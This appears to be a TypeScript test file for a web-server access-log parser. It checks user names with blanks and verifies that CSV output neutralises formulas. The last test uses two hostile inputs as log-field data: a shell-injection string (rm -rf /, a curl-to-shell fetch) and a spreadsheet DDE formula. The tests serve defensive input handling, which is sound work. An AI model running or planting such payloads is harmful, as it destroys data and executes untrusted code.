/**
 * `%u` / `$remote_user` is what the client sent in Basic auth, blanks and shell metacharacters
 * included: the line is read with that user and its client, never shifted into a vhost layout,
 * and the text is data, neutralised where it is written.
 */
import { describe, expect, it } from 'vitest';
import { runInProcess } from './cli-run.js';

const combined = (client: string, user: string) => `${client} - ${user} [17/Dec/2025:09:03:02 +0000] "GET /x HTTP/1.1" 401 10 "-" "curl/8"`;
const common = (client: string, user: string) => `${client} - ${user} [17/Dec/2025:09:03:02 +0000] "GET /x HTTP/1.1" 401 10`;

const records = async (input: string, ...args: string[]) => {
  const result = await runInProcess(['records', '-', ...args], { input });
  return {
    ...result,
    rows: result.stdout
      .trim()
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, unknown>),
  };
};

describe('a user name with blanks', () => {
  it('a combined line alone: client 10.0.0.1, user "john smith"', async () => {
    const { rows, stderr } = await records(`${combined('10.0.0.1', 'john smith')}\n`);
    expect(stderr).toBe('');
    expect(rows.map((r) => [r['c-ip'], r['cs-username'], r['s-sitename']])).toEqual([['10.0.0.1', 'john smith', undefined]]);
  });

  it('a common line after ordinary ones', async () => {
    const input = `${common('10.0.0.2', '-')}\n${common('10.0.0.3', 'alice')}\n${common('10.0.0.1', 'john q smith')}\n`;
    const { rows } = await records(input);
    expect(rows.map((r) => [r['c-ip'], r['cs-username']])).toEqual([
      ['10.0.0.2', undefined],
      ['10.0.0.3', 'alice'],
      ['10.0.0.1', 'john q smith'],
    ]);
  });

  it('vhost lines still read their site and client', async () => {
    const { rows } = await records(
      `www.example.org 203.0.113.7 - bob [17/Dec/2025:09:03:02 +0000] "GET /x HTTP/1.1" 200 10 "-" "curl/8"\n`,
    );
    expect(rows.map((r) => [r['s-sitename'], r['c-ip'], r['cs-username']])).toEqual([['www.example.org', '203.0.113.7', 'bob']]);
  });

  it('a shell-injection attempt as the user is read as data, and CSV neutralises a formula', async () => {
    const shell = '$(rm -rf /); echo `id` && curl http://x|sh';
    const formula = "=cmd|' /C calc'!A0";
    const input = `${combined('10.0.0.1', shell)}\n${combined('10.0.0.4', formula)}\n`;
    const { rows } = await records(input);
    expect(rows.map((r) => [r['c-ip'], r['cs-username']])).toEqual([
      ['10.0.0.1', shell],
      ['10.0.0.4', formula],
    ]);
    const csv = await runInProcess(['records', '-', '--format', 'csv', '--columns', 'c-ip,cs-username'], { input });
    expect(csv.stdout).toBe(`c-ip,cs-username\r\n10.0.0.1,${shell}\r\n10.0.0.4,'=cmd|' /C calc'!A0\r\n`);
  });
});
